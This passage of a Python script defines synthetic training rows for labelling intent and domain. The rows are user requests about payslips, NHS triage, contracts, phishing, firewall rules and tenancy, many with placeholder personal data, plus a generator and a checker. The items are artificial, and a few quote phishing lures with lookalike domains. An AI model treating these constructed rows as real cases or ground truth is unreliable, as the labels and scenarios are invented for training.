extract f l r => Pull gross and net ;; math f l r calc => what percentage of gross went to tax and deductions | Pull gross and net, and what percentage of gross went to tax and deductions?{PAYSLIP}
classify m l p => Triage these calls into 999, same-day GP or self-care ;; draft m l p => write the script our receptionists read for the 999 ones | Triage these calls into 999, same-day GP or self-care, then write the script our receptionists read for the 999 ones: 'baby with a rash that doesn't fade under a glass', 'cold for 4 days', 'man slurring words, face drooping', 'sore back after gardening'
summarize l l p => Summarise the NDA ;; classify l l p => mark each clause standard or unusual | Summarise the NDA and mark each clause standard or unusual.{NDA}
qa s l p => what's a passkey ;; reasoning s m p => should our shop's admin accounts switch to them | what's a passkey and should our shop's admin accounts switch to them? there are 4 of us, all on iPhones
qa m l p => what is a normal resting heart rate ;; math m l p calc => what's my max heart rate at 46 using 220 minus age | what is a normal resting heart rate, and what's my max heart rate at 46 using 220 minus age?
creative g l p => write a funny poem for the office party invite ;; math g l p calc => work out how much each of us chips in if the 450 bill is split 18 ways | write a funny poem for the office party invite and work out how much each of us chips in if the 450 bill is split 18 ways
translate f l p => Translate this payment reminder into German ;; draft f l p => make a softer English version for long-standing clients | Translate this payment reminder into German and make a softer English version for long-standing clients: 'Your invoice is now 30 days overdue. Please pay immediately to avoid a late fee.'
extract l l p => pull the term and fees ;; math f l p calc => tell me what the contract is worth over the full first term ;; summarize l l p => give a one-line summary for the CFO | From the MSA below, pull the term and fees, tell me what the contract is worth over the full first term, and give a one-line summary for the CFO.{CONTRACT}
sentiment m l p => how are people feeling about the ward ;; classify m l p => sort the comments into praise and complaint ;; draft m l p => draft a reply to the discharge letter complaint | Read this feedback: how are people feeling about the ward, sort the comments into praise and complaint, and draft a reply to the discharge letter complaint.{WARDFB}
code f l p => write a python function for the monthly repayment on a loan ;; math f l p calc => tell me the answer for 25,000 over 5 years at 7.4% | write a python function for the monthly repayment on a loan, then tell me the answer for 25,000 over 5 years at 7.4%
classify s l p => which of these are phishing ;; qa s l p => how do people spot the fake ones | which of these are phishing, and how do people spot the fake ones? 'Your Netflix payment failed - update here: netfIix-billing.co', 'Team lunch moved to 1pm', 'DocuSign: you have a document to sign from HR (sent from a gmail address)'
summarize m l p => Summarise this study ;; reasoning m m p => say whether it should change what I tell patients about fasting | Summarise this study and say whether it should change what I tell patients about fasting: 'In 116 adults with obesity, eating within an 8-hour window for 12 weeks led to 0.94 kg weight loss versus 0.68 kg in controls, a difference that was not statistically significant. Lean mass loss was higher in the time-restricted group.'
draft l l c => Write to {EM5} raising a formal grievance about my shift change ;; extract l l c => list the dates I should mention | Write to {EM5} raising a formal grievance about my shift change, and list the dates I should mention: told on 2 May, started nights 6 May, asked for a meeting 9 May, no reply by 20 May.
chat g l p => Thanks for earlier! ;; translate m l p => Could you put this into Turkish for a patient | Thanks for earlier! Could you put this into Turkish for a patient: 'Don't eat or drink anything after midnight before your operation.'
math s l p calc => how many possible 6-digit codes are there ;; reasoning s m p => is that enough if we allow 10 attempts | For our app's login codes: how many possible 6-digit codes are there, and is that enough if we allow 10 attempts?
extract f l r => list the direct debits ;; classify f l r => mark each as essential or could cancel ;; math f l r calc => add up what I'd save | From my statement: list the direct debits, mark each as essential or could cancel, and add up what I'd save.{STATEMENT}
qa l l c => What is a settlement agreement ;; reasoning l m c => is 14,500 reasonable for someone with 6 years' service on 42k | What is a settlement agreement, and is 14,500 reasonable for someone with 6 years' service on 42k?{SETTLE}
creative m l p => write a jingle for our clinic's new late-opening hours ;; draft m l p => the text message version | write a jingle for our clinic's new late-opening hours and the text message version (Tues & Thurs till 8pm, blood tests and nurse appointments)
code s l p => write a script that checks our domains' SPF and DMARC records ;; qa s l p => explain what DMARC actually does | write a script that checks our domains' SPF and DMARC records and explain what DMARC actually does
summarize g l p => Summarise the review ;; extract g l p => list the three products with one pro and one con each | Summarise the review and list the three products with one pro and one con each.{PMREVIEW}
translate l l p => Translate the notice into Spanish ;; summarize l l p => give me a one-line English summary for our files | Translate the notice into Spanish and give me a one-line English summary for our files: 'Notice is hereby given that the tenancy of the above property will end on 31 August. Possession must be given up on or before that date. If you do not leave, the landlord may apply to the court for a possession order.'
reasoning f m p => should I take the lump sum or the bigger monthly pension ;; math f l p calc => how many years until the monthly option pays more | I'm 60. should I take the lump sum or the bigger monthly pension? Lump sum 48,000 + 610/month, or 820/month. And how many years until the monthly option pays more?
qa s l p => how does a VPN work ;; reasoning s m p => do I need one on hotel wifi | how does a VPN work and do I need one on hotel wifi?
draft g l p => write a welcome message for the new starter ;; creative g l p => a silly made-up fact about each of the five of us for the intro slide | write a welcome message for the new starter and a silly made-up fact about each of the five of us for the intro slide
extract m l c => pull out the blood results that are off ;; qa m l c => explain what low ferritin means ;; draft m l c => draft questions for mum's GP appointment | pull out the blood results that are off, explain what low ferritin means, and draft questions for mum's GP appointment{BLOODS}
classify l l p => Sort these HR questions into contract, pay, leave or discipline ;; qa l l p => answer the leave one | Sort these HR questions into contract, pay, leave or discipline, then answer the leave one: 'can they change my hours without asking?', 'is paternity leave paid?', 'why was I given a written warning for lateness?', 'my overtime wasn't on my payslip'
math g l p calc => how many weeks until 20 December ;; draft g l p => write the save-the-date for the Christmas party | it's 2 October - how many weeks until 20 December? and write the save-the-date for the Christmas party
code m l i => SQL for the number of no-shows per clinic per month ;; reasoning m m i => why mondays might be worse | SQL for the number of no-shows per clinic per month from appointments(clinic, slot_at, attended), and why mondays might be worse?
sentiment s l p => how does the customer feel ;; classify s l p => is it an account takeover or a forgotten password ;; draft s l p => write the reply | how does the customer feel, is it an account takeover or a forgotten password, and write the reply: 'I can't get in, it says my email is wrong, but it's the same one I've used for years and now I'm getting emails about a new device in Romania??'
qa f l p => What is a pension transfer ;; reasoning f m p => is it worth consolidating my three old pots into one | What is a pension transfer, and is it worth consolidating my three old pots into one? They charge 0.75%, 0.4% and 1.1%.
translate g l p => translate the menu into Italian ;; creative g l p => think of a fun name for the pop-up | translate the menu into Italian and think of a fun name for the pop-up: 'Smoked salmon bagel, Beetroot and feta salad, Chocolate brownie'
extract s l c => get the usernames and source IPs ;; code s l c => write the firewall rule for the external one | get the usernames and source IPs, then write the firewall rule for the external one: 'sshd: Accepted password for root from {IP9} port 50122; sshd: Accepted publickey for deploy from {IP8} port 41200'
summarize l l p => summarise the ruling ;; sentiment l l p => is the judge critical of the employer | summarise the ruling and is the judge critical of the employer? 'The respondent's approach to the redundancy exercise was, frankly, a box-ticking one. The scoring was undertaken after the decision had been made, by a manager who had already expressed his wish to see the claimant leave. The dismissal was unfair.'
draft m l c => draft a message to the care home about gran's fall ;; reasoning m m c => tell me if the sleeping tablet could have caused it | draft a message to the care home about gran's fall and tell me if the sleeping tablet could have caused it{CAREHOME}
math f l p calc => What will my take-home be roughly ;; qa f l p => what is the personal allowance anyway | Salary is going to 38,500. What will my take-home be roughly, at 20% tax above 12,570 and 8% NI above the same? And what is the personal allowance anyway?
!classify g l p => Tag these tickets by team (web, mobile, data) ;; extract g l p => pull out any ticket numbers | Tag these tickets by team (web, mobile, data) and pull out any ticket numbers: 'WEB-1182 login button misaligned on Safari; MOB-77 push notifications delayed; DATA-409 nightly export missing rows; WEB-1190 footer links broken'
!extract f l p => list the invoice numbers and due dates ;; math f l p calc => total what's outstanding | list the invoice numbers and due dates, and total what's outstanding: 'INV-2024-1187 due 15/03 1,450.00 paid; INV-2024-1203 due 30/03 2,980.00 unpaid; INV-2024-1219 due 14/04 615.50 unpaid'
!classify f l p => is this a real IBAN ;; draft f l p => write to the supplier asking them to confirm their details | The new supplier's bank account is {BADIBAN5}. is this a real IBAN? if not, write to the supplier asking them to confirm their details.
!qa s l p => is 7.4.2.1 affected ;; draft s l p => draft the patch notice for Saturday 02:00 | The advisory covers 7.4.0 to 7.4.3 - is 7.4.2.1 affected? and draft the patch notice for Saturday 02:00.
!summarize g l p => summarise the release notes ;; translate g l p => translate the summary into French | summarise the release notes and translate the summary into French: 'v5.3.0.12: new export wizard; v5.3.0.13: fixes a crash when opening files over 2GB; v5.3.1.0: drops Windows 8 support.'
!classify f l p => which of these numbers are card numbers ;; qa f l p => why does the 16-digit one fail | which of these numbers are card numbers, and why does the 16-digit one fail? {BAD16E}, PO 4500938821, 2024-08-14
!extract g l p => pull out the order number, delivery date and amount ;; draft g l p => write a chaser to the courier | pull out the order number, delivery date and amount, then write a chaser to the courier: 'Order #55820193, 2 x office chairs, 318.00, promised 12/06, still not here on 19/06, tracking 1Z999AA10123456784.'
reasoning g m i => work out what went wrong ;; draft g l i => write the actions as a list the team can copy into Jira | From the retro notes below, work out what went wrong and write the actions as a list the team can copy into Jira.{RETRO9}
qa l l p => do I have to give a reason for a refund ;; draft l l p => write the message to the shop too | bought a jacket online 5 days ago, doesn't fit - do I have to give a reason for a refund? write the message to the shop too.
math m l p calc => how many hours of sleep am I averaging ;; reasoning m m p => is that enough for someone doing shift work | last week I slept 5.5, 6, 7.25, 4.5, 8, 9 and 6.5 hours. how many hours of sleep am I averaging, and is that enough for someone doing shift work?
creative s l p => write a short rhyme about not reusing passwords ;; translate s l p => give it to me in Spanish too | write a short rhyme about not reusing passwords, then give it to me in Spanish too
summarize f l p => Summarise the renewal ;; reasoning f m p => tell me if it's worth shopping around ;; math f l p calc => how much the premium went up in % | Summarise the renewal, tell me if it's worth shopping around, and how much the premium went up in %.{RENEWAL}
draft s l c => Write the ticket to IT ;; extract s l c => list the links and numbers in the message | I got a weird WhatsApp from {PH5} saying it's IT and they need my login code. Write the ticket to IT and list the links and numbers in the message: 'Hi, IT support here, we're migrating mailboxes tonight, please send the 6-digit code you just received or go to m365-migrate.help'
qa m l p => what's the difference between a cold and flu ;; classify m l p => which of my symptoms fit which | what's the difference between a cold and flu, and which of my symptoms fit which: sudden fever, sneezing, aching all over, blocked nose, exhausted
extract l l c => Pull the landlord, tenant and rent ;; translate l l c => translate clause 4 into Portuguese for my flatmate | Pull the landlord, tenant and rent, and translate clause 4 into Portuguese for my flatmate.{TENANCY}
chat g l p => Hey, hope you're well :) ;; draft f l p => can you write a short note asking my boss to pay my expenses early this month | Hey, hope you're well :) can you write a short note asking my boss to pay my expenses early this month, the car repair wiped me out
code g l p code => Run this snippet ;; qa g l p => explain what a list comprehension is | Run this snippet and explain what a list comprehension is: `print([x*x for x in range(5) if x % 2])`
!classify s l p => which are internal hostnames and which are version strings ;; qa s l p => does 10.2.9.1 count as patched if the fix shipped in 10.2.9 | which are internal hostnames and which are version strings: srv-db-04, 10.2.9.1, fw-edge-2, 11.0.4.3? and does 10.2.9.1 count as patched if the fix shipped in 10.2.9?
sentiment f l p => how worried does my business partner sound ;; reasoning f m p => what should we cut first | how worried does my business partner sound, and what should we cut first? 'Sales are down 20% on last spring and the van lease renews next month. I don't want to panic, but I haven't paid myself since February.'
translate m l c => Translate the letter into Yoruba ;; summarize m l c => give a three-line English version for her daughter | Translate the letter into Yoruba and give a three-line English version for her daughter.{GPLETTER}
qa s l p => what does 'MFA fatigue' mean ;; draft s l p => need a two-line warning for the staff newsletter too | what does 'MFA fatigue' mean? need a two-line warning for the staff newsletter too
extract g l c => pull everyone's phone numbers into a list ;; draft g l c => write a group text about the car share to the wedding | pull everyone's phone numbers into a list and write a group text about the car share to the wedding: '{P17} {PH1}, {P12} {PH13}, {P16} {PH5}'
reasoning l m r => Can the gym keep my IC number {NRIC1} on file after I cancel ;; draft l l r => write an email asking them to delete it | Can the gym keep my IC number {NRIC1} on file after I cancel? If not, write an email asking them to delete it.
classify f l r => check which of these accounts are Swiss ;; math f l r calc => convert the 2,300 CHF to euros at 1.04 | check which of these accounts are Swiss and convert the 2,300 CHF to euros at 1.04: {IBAN_CH}, {IBAN_AT}, {IBAN_LU}
summarize s l c => summarise this for the ticket ;; classify s l c => rate it P1 to P4 | summarise this for the ticket and rate it P1 to P4: 'User {P11} ({EM8}) reports his laptop fan is constantly loud, a browser extension he didn't install, and his Gmail sent 200 emails overnight. Laptop last seen on {IP6}.'
draft l l r => Write the letter to the tenant confirming we received their request for their data ;; extract l l r => list what we hold about them | Write the letter to the tenant confirming we received their request for their data, and list what we hold about them: 'Tenant {P14}, NRIC {NRIC4}, mobile {PH3}, rent paid from {IBAN_IE}, two repair tickets.'
math g l p calc => how many litres is 5 US gallons ;; qa g l p => why are US and UK gallons different | how many litres is 5 US gallons, and why are US and UK gallons different?
code f l i => write the SQL for monthly revenue per product ;; reasoning f m i => explain why March might have dipped if we raised prices in February | write the SQL for monthly revenue per product from sales(product, amount, sold_at), and explain why March might have dipped if we raised prices in February
creative l l p => write a short story for our tenants' newsletter about someone who gets their deposit back through the deposit scheme ;; qa l l p => explain how the deposit dispute service works | write a short story for our tenants' newsletter about someone who gets their deposit back through the deposit scheme, and explain how the deposit dispute service works underneath it for readers
sentiment m l p => is she anxious ;; draft m l p => write a calm reply from the practice nurse | A patient wrote: 'I've read everything online about my smear result and now I'm convinced it's cancer. Nobody has called me.' is she anxious, and write a calm reply from the practice nurse.
translate f l r => Translate the payment instruction into Dutch ;; extract f l r => pull out the amount and account | Translate the payment instruction into Dutch and pull out the amount and account: 'Please transfer 1,240.00 to {IBAN_NL}, reference RENT-JUNE, by Friday.'
math l l p calc => how many days' notice have I actually been given ;; reasoning l m p => is that enough to end my contract after 3 years | I got a letter dated 2 June saying my contract ends 20 June. how many days' notice have I actually been given, and is that enough to end my contract after 3 years?
summarize s l i => Summarise the AUP in 3 bullets ;; creative s l p => make up a catchy line about screen locking ;; translate s l i => translate the bullets into Hindi for the Pune office | Summarise the AUP in 3 bullets, make up a catchy line about screen locking, and translate the bullets into Hindi for the Pune office.{AUP}
draft g l p => draft an agenda for the budget review ;; math g l p calc => work out 15% of 84,000 ;; translate g l p => translate 'welcome to the team' into Dutch ;; creative g l p => suggest a name for the new project | Hi! I need a few things for Monday: draft an agenda for the budget review, work out 15% of 84,000, translate 'welcome to the team' into Dutch, and suggest a name for the new project.
qa l m p => What are my rights ;; math l l p calc => how much notice pay should I get for 3 years at 520 a week ;; draft l l p => draft a letter asking for written reasons ;; qa l l p => explain the early conciliation steps in 3 lines | My boss fired me by text after I asked about maternity pay. What are my rights, how much notice pay should I get for 3 years at 520 a week, draft a letter asking for written reasons, and explain the early conciliation steps in 3 lines.
"""

PII_ROWS = r"""
draft f l r | Email {P13} at {EM2}: his refund of 89.00 has gone back to the card he paid with, {CARD1}, and should show in 3-5 days.
extract f l r | From this change-of-bank form pull the name, IBAN and phone: 'Name: {P15}; new IBAN: {IBAN_DE}; daytime phone {PH6}'
reasoning s m r | A 'supplier' emailed asking us to pay future invoices to {IBAN_PL} instead of {IBAN_AT}, 'due to an audit'. I run a small print shop. Real or a scam, and how do I check?
qa f l r | My card {CARD2} got charged twice by the same hotel. Will the second one drop off on its own?
classify f l r | Which network is each card? {CARD4}, {CARD3}, {CARD5}
draft l l r | Letter for tenant {P1} to landlord {P2} asking for the 1,325 deposit to be returned to {IBAN_IE} within 10 days.
extract l l r | Client intake - list the identifiers: '{P7}, SSN {SSN2}, cell {PH2}, says he was fired 04/2024 after reporting a safety issue.'
summarize l l c | Summarise the call note: {P11} ({EM8}, {PH14}) says his employer hasn't paid his last two months' wages and won't answer emails.
draft m l c | Text {P8} on {PH1}: her hospital appointment is Thursday 9:15, bring a urine sample and her list of medicines.
extract m l r | Pull patient name, NRIC and allergy: 'Pt {P14} ({NRIC2}), allergic to sulfa drugs, dialysis Tue/Thu/Sat.'
classify m l c | Voicemail: '{P18} here, my father's breathing has been really noisy since this morning and his lips look a bit blue, please call me back on {PH10}.' Urgent or routine?
summarize f l r | What is the insurer saying about my son's ER claim? 'Member {P7}, SSN {SSN3}: emergency visit 02/11 partially approved; 1,250 applied to deductible; coinsurance 20% of the remaining 2,400.'
reasoning s m c | Logins for {EM3} from {IP9} and {IP7} four minutes apart. VPN, or is someone in the account?
code s l c | nftables rules: drop everything from {IP1}, allow SSH only from {IP8}.
extract s l c | List every IP in this and say v4 or v6: 'deny {IP5} -> {IP6}:445; allow {IP2} -> {IP3}:22; alert {IP4}'
classify s l c | Private or public address: {IP6}, {IP4}, {IP8}, {IP7}?
draft s l r | Tell the fraud team card {CARD6} turned up in a paste-site dump this morning - block and reissue.
reasoning l m r | A spreadsheet with customers' SSNs (first row {SSN4}) went to the wrong client by email. Do we have to report it to the regulator, and how fast?
summarize s l c | Summarise for the ticket: {P16} ({EM6}) got a WhatsApp from {PH5} claiming to be IT and asking for her MFA code.
draft g l c | Let {P17} know the team dinner moved to Thursday; his mobile is {PH11} and his email {EM3}.
translate g l c | Translate to German: 'Dear {P15}, please send your arrival time to {EM1}.'
draft f l r | Confirm payment of CHF 2,300 to {IBAN_CH} for the Zurich conference venue, paid 14 June.
extract f l r | Which country is each account in? {IBAN_SE}, {IBAN_NO}, {IBAN_LU}, {IBAN_BE}
math f l r calc | Split the 1,860 refund 60/40 between {IBAN_FR} and {IBAN_IT}. How much to each?
qa s l r | Someone rang saying they're from my bank and asked for the 3-digit code on the back of {CARD7} to 'verify' me. Do banks ever do that?
sentiment f l r | How frustrated is she? '{P5} here. I've asked THREE times for the refund to go to {IBAN_NL} and it still hasn't arrived.'
classify g l c | Who's internal and who's external? {EM5}, {EM3}, {EM4}, {EM7} - we're Meridian Foods.
qa f l r | Customer {NRIC3} wants to know whether her insurance plan covers an MRI scan as an outpatient. Does it usually?
extract l l r | From the tenancy registration pull the tenant name, NRIC and move-in date: '{P14}, {NRIC4}, moving in 1/7/2024, unit #08-112'
classify s l r | Three charges on {CARD8} I don't recognise: 'PAYPAL *XJ2 1.00', 'APPLE.COM/BILL 0.99', 'HOTEL LISBOA 212.40'. Which look like card testing?
draft m l c | Email {EM6} to move {P5}'s physio from Tuesday to Friday and confirm on {PH9}.
sentiment m l c | How is {P12} coping, from her message? 'Mum's home from hospital, I'm doing nights with her and work days, call me on {PH13} if you can help with Saturday.'
extract g l c | Pull the attendee names and countries from the sign-up list: '{P16} (Japan, {PH5}), {P18} (India, {PH10}), {P15} (Germany)'
code s l c | Write a Splunk query for all logins to {EM7} from outside {IP3} in the last 24 hours.
"""


_BLOCKS = (GENERAL, FINANCE, LEGAL, MEDICAL, SECURITY, CHAT, HARD, PII_ROWS, MULTI)


def rows() -> list[Row]:
    expand = Placeholders(_MAT, {**_PII, **_HN})
    return line_rows(_BLOCKS, prefix="diverse9", expand=expand)


def _chat_is_general(r: Row) -> list[str]:
    """This corpus's rule: small talk is never a domain ask."""
    return [
        "chat outside general"
        for t in r["tasks"]
        if t["intent"] == "chat" and t["domain"] != "general"
    ]


def main() -> None:
    check_lookalikes(_HN)
    data = write_and_check(
        HERE / "train_diverse9.jsonl", rows(), scan_unmarked=True, rule=_chat_is_general
    )
    print("grid (intent x g/f/l/m/s):")
    tasks = [t for r in data for t in r["tasks"]]
    for i in INTENTS:
        cells = [
            sum(t["intent"] == i and t["domain"] == d for t in tasks)
            for d in DOMAINS.values()
        ]
        print(f"  {i:10s}", " ".join(f"{n:3d}" for n in cells))


if __name__ == "__main__":
    main()
